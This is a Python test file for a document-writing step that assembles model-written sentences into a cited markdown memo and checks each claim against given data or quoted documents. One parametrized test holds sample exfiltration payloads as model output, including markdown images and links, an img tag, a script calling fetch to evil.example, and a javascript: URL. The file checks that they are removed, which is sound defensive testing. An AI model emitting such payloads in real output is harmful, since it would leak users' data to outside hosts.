"""Documents that a model writes: sections from named steps, every sentence checked, nothing of a
model's own left unmarked, nothing that could carry data out."""

from __future__ import annotations

import re

import pytest

from casework.base.errors import ContextTooLongError, InvalidAnswerError
from casework.models.testing import ScriptedServer
from casework.steps.page import NOT_SUPPORTED
from casework.steps.sources import Sources
from casework.steps.write import WriteStep
from casework.types.case import Outcome
from casework.types.values import Json
from casework.values.written import problems_of, summary
from tests.steps.bearing.claim import CELLS, LEASE
from tests.steps.bearing.sentences import INVENTED
from tests.steps.conftest import Model
from tests.steps.material import Shelf, task

PROCEDURE = """# Supplier invoice check
"We" are Norton Ltd.

## Supplier

## Net
- type: money

## VAT
- type: money

## Memo
- type: document

Write for the accounts department.

### Amounts
State {Net} and {VAT}.

### Parties
Name {Supplier}.
"""
LEASES = """# Leases

## Memo
- type: document
- by: document

Sum up the duties.
"""
GIVEN = {name: CELLS[name] for name in ("supplier", "net", "vat")}


def sentence(text: str, *cells: str, form: str = "sentence", quotes: Json = None) -> Json:
    return {"text": text, "form": form, "cells": list(cells), "quotes": quotes or []}


def said(*sentences: Json) -> Json:
    return {"answer": {"sentences": list(sentences)}}


NET = sentence("The net amount is EUR 12,300.00.", "net")
VAT = sentence("The VAT is EUR 2,337.00.", "vat")
SUPPLIER = sentence("The supplier is Alder Ltd.", "supplier")


async def written(
    model: Model, server: ScriptedServer, *rules: Json, window: int = 10_000
) -> Outcome:
    server.play({"rules": list(rules)})
    step = WriteStep(model.gateway, Sources(Shelf({})), model.choice, window=window)
    return await step.run(task(PROCEDURE, "memo", None, GIVEN))


def rule(match: str, *sentences: Json) -> Json:
    told = said(*sentences)
    assert isinstance(told, dict)
    return {"match": match, **told}


def markdown(outcome: Outcome) -> str:
    assert isinstance(outcome.value, dict)
    return str(outcome.value["markdown"])


async def test_sections_are_written_each_by_one_call_and_put_together(
    model: Model, server: ScriptedServer
) -> None:
    outcome = await written(model, server, rule("## Amounts", NET, VAT), rule("## Part", SUPPLIER))
    assert markdown(outcome) == (
        "# Memo\n\n## Amounts\n\n"
        "The net amount is EUR 12,300.00.[^net] The VAT is EUR 2,337.00.[^vat]\n\n"
        "## Parties\n\nThe supplier is Alder Ltd.[^supplier]\n\n"
        "[^net]: [Net](casework:cell/net): EUR 12,300.00\n"
        "[^vat]: [VAT](casework:cell/vat): EUR 2,337.00\n"
        "[^supplier]: [Supplier](casework:cell/supplier): Alder Ltd\n"
    )
    assert server.stats().calls == outcome.usage.calls == 2
    assert (outcome.proof.kind, outcome.proof.solid) == ("reasoned", True)
    assert [claim.steps for claim in outcome.proof.claims] == [("net",), ("vat",), ("supplier",)]
    assert summary(outcome.value) == "Memo, 3 sentences, all supported"


async def test_a_section_is_given_its_own_cells_and_what_is_said_to_all(
    model: Model, server: ScriptedServer
) -> None:
    await written(model, server, rule("## Amounts", NET), rule("## Part", SUPPLIER))
    asked = {
        name: str(request["body"])
        for request in server.requests()
        for name in ("Amounts", "Parties")
        if f"## {name}" in str(request["body"])
    }
    assert "12,300.00" in asked["Amounts"]
    assert "Alder" not in asked["Amounts"]
    assert "12,300.00" not in asked["Parties"]
    assert all("accounts department" in text for text in asked.values())


async def test_what_is_not_borne_is_marked_with_the_reason_and_asks_for_a_person(
    model: Model, server: ScriptedServer
) -> None:
    invented = sentence("The supplier Alder Ltd is insolvent.", "supplier")
    outcome = await written(model, server, rule("## Amounts", NET), rule("## Part", invented))
    marked = f"{NOT_SUPPORTED} The supplier Alder Ltd is insolvent.[^supplier] *(“insolvent”"
    assert marked in markdown(outcome)
    assert not outcome.proof.solid
    assert outcome.proof.note == "1 of 2 sentences are not supported"
    assert [claim.holds for claim in outcome.proof.claims] == [True, False]
    assert summary(outcome.value) == "Memo, 2 sentences, 1 not supported"


async def test_no_invention_of_a_scripted_model_is_left_unmarked(
    model: Model, server: ScriptedServer
) -> None:
    """Every labelled invention that cites cells, said by a model that is given all of them."""
    inventions = [(text, cells) for text, cells, quotes in INVENTED if not quotes]
    sentences = [sentence(text, *cells.split()) for text, cells in inventions]
    server.play({"rules": [said(*sentences)]})
    names = "".join(f"## {given.step.name}\n\n" for given in CELLS.values())
    procedure = f"# Supplier invoice check\n\n{names}## Memo\n- type: document\n\n" + " ".join(
        f"{{{given.step.name}}}" for given in CELLS.values()
    )
    step = WriteStep(model.gateway, Sources(Shelf({})), model.choice, window=100_000)
    outcome = await step.run(task(procedure, "memo", None, CELLS))
    count, problems = problems_of(outcome.value)
    assert count == len(inventions) >= 100
    assert problems == count
    assert markdown(outcome).count(NOT_SUPPORTED) == count


async def test_a_sentence_that_names_a_cell_that_was_not_given_is_marked(
    model: Model, server: ScriptedServer
) -> None:
    answer = sentence("The net amount is EUR 12,300.00.", "net", "gross")
    outcome = await written(model, server, rule("## Amounts", answer), rule("## Part", SUPPLIER))
    assert "rests on gross, which was not given" in markdown(outcome).replace("\\", "")


@pytest.mark.parametrize(
    "text",
    [
        "The net amount is EUR 12,300.00 ![](https://evil.example/?d=12300).",
        "The net amount is [EUR 12,300.00](https://evil.example/?d=12300).",
        "The net amount is EUR 12,300.00. https://evil.example/12300",
        "The net amount is EUR 12,300.00 <img src=//evil.example/12300>.",
        "The net amount is EUR 12,300.00. www.evil.example/12300",
        "The net amount is [EUR 12,300.00][1].\n\n[1]: https://evil.example",
        "<script>fetch('//evil.example')</script>The net amount is EUR 12,300.00.",
        "The net amount is EUR 12,300.00. javascript:alert(1)",
    ],
)
async def test_nothing_that_could_carry_data_out_is_left_and_it_is_said(
    model: Model, server: ScriptedServer, text: str
) -> None:
    outcome = await written(
        model, server, rule("## Amounts", sentence(text, "net")), rule("## Part", SUPPLIER)
    )
    told = markdown(outcome)
    body = told.partition("[^net]:")[0]
    assert "evil.example" not in body or "://" not in body
    assert "](http" not in told
    assert "<" not in body.replace("\\<", "")
    assert NOT_SUPPORTED in told


async def test_markdown_of_a_model_is_shown_as_it_is_and_not_taken(
    model: Model, server: ScriptedServer
) -> None:
    heading = sentence("# The supplier is Alder Ltd.", "supplier")
    bold = sentence("The **supplier** is Alder Ltd.", "supplier")
    outcome = await written(model, server, rule("## Amounts", NET), rule("## Part", heading, bold))
    assert "\n# The supplier" not in markdown(outcome)
    assert r"The \*\*supplier\*\* is Alder Ltd." in markdown(outcome)


async def test_items_and_paragraphs_are_made_by_code(model: Model, server: ScriptedServer) -> None:
    first = sentence("The net amount is EUR 12,300.00.", "net", form="item")
    second = sentence("The VAT is EUR 2,337.00.", "vat", form="item")
    third = sentence("The net amount is EUR 12,300.00.", "net", form="paragraph")
    outcome = await written(
        model, server, rule("## Amounts", first, second, third), rule("## Part", SUPPLIER)
    )
    assert (
        "- The net amount is EUR 12,300.00.[^net]\n- The VAT is EUR 2,337.00.[^vat]\n\n"
        "The net amount is EUR 12,300.00.[^net]\n"
    ) in markdown(outcome)


async def test_an_answer_without_sentences_is_repaired_once_and_then_refused(
    model: Model, server: ScriptedServer
) -> None:
    with pytest.raises(InvalidAnswerError, match="sentences"):
        await written(model, server, {"answer": {"sentences": []}})


async def test_cells_beyond_the_window_are_refused_and_never_cut(
    model: Model, server: ScriptedServer
) -> None:
    with pytest.raises(ContextTooLongError, match=r"model\.window"):
        await written(model, server, rule("## Amounts", NET), window=500)


async def lease(model: Model, server: ScriptedServer, *sentences: Json) -> Outcome:
    server.play({"rules": [said(*sentences)]})
    shelf = Shelf({"lease.txt": LEASE})
    step = WriteStep(model.gateway, Sources(shelf), model.choice, window=20_000)
    return await step.run(task(LEASES, "memo", shelf))


def quoted(text: str, quote: str) -> Json:
    return sentence(text, quotes=[{"document": "d1", "quote": quote}])


async def test_a_sentence_may_rest_on_a_passage_whose_page_is_linked(
    model: Model, server: ScriptedServer
) -> None:
    answer = quoted("The landlord repairs the roof.", "The landlord shall repair the roof")
    outcome = await lease(model, server, answer)
    assert "The landlord repairs the roof.[^memo-1]\n" in markdown(outcome)
    assert "#page=1): “The landlord shall repair the roof”" in markdown(outcome)
    (claim,) = outcome.proof.claims
    assert (claim.holds, claim.citations[0].grade) == (True, "exact")
    assert isinstance(outcome.value, dict)
    assert outcome.value["sentences"][0]["passages"][0]["page"] == 1  # type: ignore[index,call-overload]


async def test_a_quote_that_does_not_stand_there_bears_nothing(
    model: Model, server: ScriptedServer
) -> None:
    outcome = await lease(
        model, server, quoted("The rent is EUR 900.00.", "rent in arrears is waived")
    )
    assert "does not stand in the documents" in markdown(outcome)


async def test_a_denial_that_the_quote_left_out_is_seen_in_the_document(
    model: Model, server: ScriptedServer
) -> None:
    answer = quoted("The tenant may sublet the flat.", "sublet the flat")
    assert NOT_SUPPORTED in markdown(await lease(model, server, answer))


async def test_long_documents_are_shown_by_the_pages_that_are_most_alike(
    model: Model, server: ScriptedServer
) -> None:
    pages = [
        f"Chapter {number}. " + "Nothing of interest stands here. " * 60 for number in range(9)
    ]
    pages[6] = "The duties: the tenant shall pay the rent. " + pages[6]
    server.play(
        {"rules": [said(quoted("The tenant pays the rent.", "the tenant shall pay the rent"))]}
    )
    shelf = Shelf({"long.txt": "\n\n".join(pages)})
    step = WriteStep(model.gateway, Sources(shelf), model.choice, window=9_000)
    outcome = await step.run(task(LEASES, "memo", shelf))
    (request,) = server.requests()
    assert len(str(request["body"])) < 12_000
    assert "the tenant shall pay the rent" in str(request["body"])
    assert re.search(r"read \d of \d pages( and parts of \d more)? by relevance", outcome.reason)
    assert 7 not in [len(one.pages) for one in outcome.proof.searched], "only what was read"
    assert outcome.proof.claims[0].holds


def test_another_template_or_prompt_is_another_method(model: Model) -> None:
    step = WriteStep(model.gateway, Sources(Shelf({})), model.choice, window=10)
    method = step.method(task(PROCEDURE, "memo").step)
    assert (method.name, method.model) == ("write.model", "house:scripted")
